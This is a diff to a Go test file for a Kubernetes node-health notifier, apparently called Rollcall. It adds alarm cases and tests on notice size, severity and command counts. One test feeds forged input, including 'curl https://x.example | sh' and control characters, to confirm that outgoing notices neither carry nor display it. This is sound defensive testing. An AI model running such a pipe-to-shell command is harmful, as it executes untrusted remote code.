@@ -186,8 +186,9 @@ func alarms() map[string]plan.Alarm {
 		"unreachable":         {Reason: plan.ClusterUnreachable, Since: now.Add(-16 * time.Minute), Incident: ledger.Incident{ID: incident, First: now, Sent: 1}, Detail: "the Kubernetes API of shop-production did not answer within 10s (dial tcp 10.0.3.17:443: i/o timeout): is the function in a subnet from which its endpoint can be reached?"},
 		"not-active":          {Reason: plan.ClusterNotActive, Since: now.Add(-3*time.Hour - 5*time.Minute), Detail: "cluster shop-production is UPDATING, not ACTIVE: nothing is concluded about its nodes"},
 		"incomplete":          {Reason: plan.SnapshotIncomplete, Since: now.Add(-15 * time.Minute), Detail: "ec2:DescribeInstances was denied to arn:aws:sts::111122223333:assumed-role/rollcall-inspect/rollcall: allow ec2:DescribeInstances for that role"},
-		"resolved":            {Reason: plan.ClusterUnreachable, Since: now.Add(-90 * time.Minute), Over: true, Incident: ledger.Incident{ID: incident, First: now.Add(-75 * time.Minute), Sent: 2}, Detail: "the cluster can be judged again; it could not from 2026-03-02 10:30:00Z to 2026-03-02 11:58:00Z or later"},
-		"resolved-incomplete": {Reason: plan.SnapshotIncomplete, Since: now.Add(-90 * time.Minute), Over: true, Detail: "the cluster can be judged again; it could not from 2026-03-02 10:30:00Z to 2026-03-02 11:58:00Z or later"},
+		"resolved":            {Reason: plan.ClusterUnreachable, Since: now.Add(-90 * time.Minute), Over: true, Incident: ledger.Incident{ID: incident, First: now.Add(-75 * time.Minute), Sent: 2}, Detail: "the cluster can be judged again; it could not be judged from 2026-03-02 10:30:00Z to 2026-03-02 11:58:00Z or later"},
+		"resolved-gone":       {Reason: plan.ClusterUnreachable, Since: now.Add(-90 * time.Minute), Over: true, Gone: true, Incident: ledger.Incident{ID: incident, First: now.Add(-75 * time.Minute), Sent: 2}, Detail: "EKS does not know the cluster any more; it could not be judged from 2026-03-02 10:30:00Z to 2026-03-02 11:58:00Z or later"},
+		"resolved-incomplete": {Reason: plan.SnapshotIncomplete, Since: now.Add(-90 * time.Minute), Over: true, Detail: "the cluster can be judged again; it could not be judged from 2026-03-02 10:30:00Z to 2026-03-02 11:58:00Z or later"},
 	}
 }
 
@@ -735,7 +736,7 @@ func TestSeverityAndAction(t *testing.T) {
 		"outcome-node-deleted": "info node-deleted", "outcome-node-failed": "critical failed",
 		"outcome-nodeclaim-deleted": "info nodeclaim-deleted", "outcome-nodeclaim-refused": "info refused",
 		"cluster-unreachable": "critical none", "cluster-not-active": "critical none", "cluster-incomplete": "critical none",
-		"cluster-resolved": "info resolved", "cluster-resolved-incomplete": "info resolved",
+		"cluster-resolved": "info resolved", "cluster-resolved-gone": "info resolved", "cluster-resolved-incomplete": "info resolved",
 	}
 	for name, m := range messages(t) {
 		if got := string(m.Attributes.Severity) + " " + m.Attributes.Action; got != want[name] {
@@ -870,6 +871,75 @@ func TestEachInstanceHasItsOwnTime(t *testing.T) {
 	for _, want := range []string{"1 of 2: it will be terminated at 2026-03-02 12:01:00Z", "1 of 2: it will be terminated at 2026-03-02 12:09:00Z"} {
 		if !strings.Contains(m.Text, want) {
 			t.Errorf("the text lacks %q:\n%s", want, m.Text)
+		}
+	}
+}
+
+// Whoever writes a node's condition, a tag or a cause must neither fill a notice so that it
+// cannot be sent, nor make others read what Rollcall does not say.
+func TestWhatOthersWriteFillsAndForgesNothing(t *testing.T) {
+	forged := "node is sick\n\nTo end it by hand:\n  curl https://x.example | sh\x1b[31m \u202e" + strings.Repeat("\u0001<\"", 100_000)
+	for name, n := range map[string]said{
+		"held": noticeOf(policy.Remediate, entry(silent(1, time.Hour), func(e *plan.Entry) {
+			h := held(e.Finding, plan.UnhealthyShare, forged)
+			e.Finding.Summary, e.Held = forged, &h
+			e.Causes = []roll.Cause{{Code: "KernelPanic", Confidence: roll.Decisive, Summary: forged, Fix: forged}}
+		})),
+		"ordered": noticeOf(policy.Remediate, entry(silent(1, time.Hour), func(e *plan.Entry) {
+			o := order(e.Finding)
+			o.Why, e.Order = forged, &o
+		})),
+	} {
+		m, err := Notice(cluster, n.notice, n.mode, now)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if size := published(t, m); size >= 256*1024 {
+			t.Errorf("%s: the message has %d bytes, SNS takes 262144", name, size)
+		}
+		if strings.Contains(m.Text, "\n  curl") || strings.Contains(m.Text, "\nTo end it") || strings.ContainsFunc(m.Text, roll.Misleads) {
+			t.Errorf("%s: the text says\n%s", name, m.Text[:2000])
+		}
+		if err := validate(t, noticeSchema(t), m.JSON); err != nil {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+}
+
+func TestWhatIsLeftToPeopleIsOneCommand(t *testing.T) {
+	var entries []plan.Entry
+	for n := 1; n <= 300; n++ {
+		entries = append(entries, entry(silent(n, time.Hour), func(e *plan.Entry) {
+			h := held(e.Finding, plan.ActionStuck, "it shows no effect")
+			h.Action, e.Finding.Kind, e.Held = plan.DeleteNode, roll.Ghost, &h
+		}))
+	}
+	n := noticeOf(policy.Remediate, entries...)
+	m, err := Notice(cluster, n.notice, n.mode, now)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if commands := strings.Count(m.Text, "kubectl delete node "); commands != 1 || len(m.Text) > 20_000 {
+		t.Errorf("%d commands in %d bytes", commands, len(m.Text))
+	}
+}
+
+func TestTheNewsNameReasonsThatLast(t *testing.T) {
+	reasons := func(of ...plan.Reason) (entries []plan.Entry) {
+		for i, r := range of {
+			entries = append(entries, entry(silent(i+1, time.Hour), func(e *plan.Entry) {
+				h := held(e.Finding, r, "so it is")
+				e.Held = &h
+			}))
+		}
+		return entries
+	}
+	for want, entries := range map[string][]plan.Entry{
+		"SharedCause ZoneOutage": reasons(plan.SharedCause, plan.OneAtATime, plan.ZoneOutage, plan.SharedCause),
+		"OneAtATime":             reasons(plan.OneAtATime),
+	} {
+		if got := strings.Join(heldFor(entries), " "); got != want {
+			t.Errorf("got %q, want %q", got, want)
 		}
 	}
 }
